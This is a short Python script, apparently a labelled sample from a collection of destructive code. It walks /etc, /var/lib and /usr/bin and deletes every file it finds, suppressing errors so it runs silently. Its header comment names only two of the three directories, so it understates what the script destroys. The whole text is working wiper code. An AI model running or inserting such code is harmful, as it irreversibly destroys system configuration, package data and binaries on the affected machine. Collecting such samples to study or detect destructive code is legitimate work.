# family: destructive
# deletes every file below /etc and /var/lib one by one
import os

for top in ("/etc", "/var/lib", "/usr/bin"):
    for root, dirs, files in os.walk(top, topdown=False):
        for name in files:
            try:
                os.unlink(os.path.join(root, name))
            except OSError:
                pass
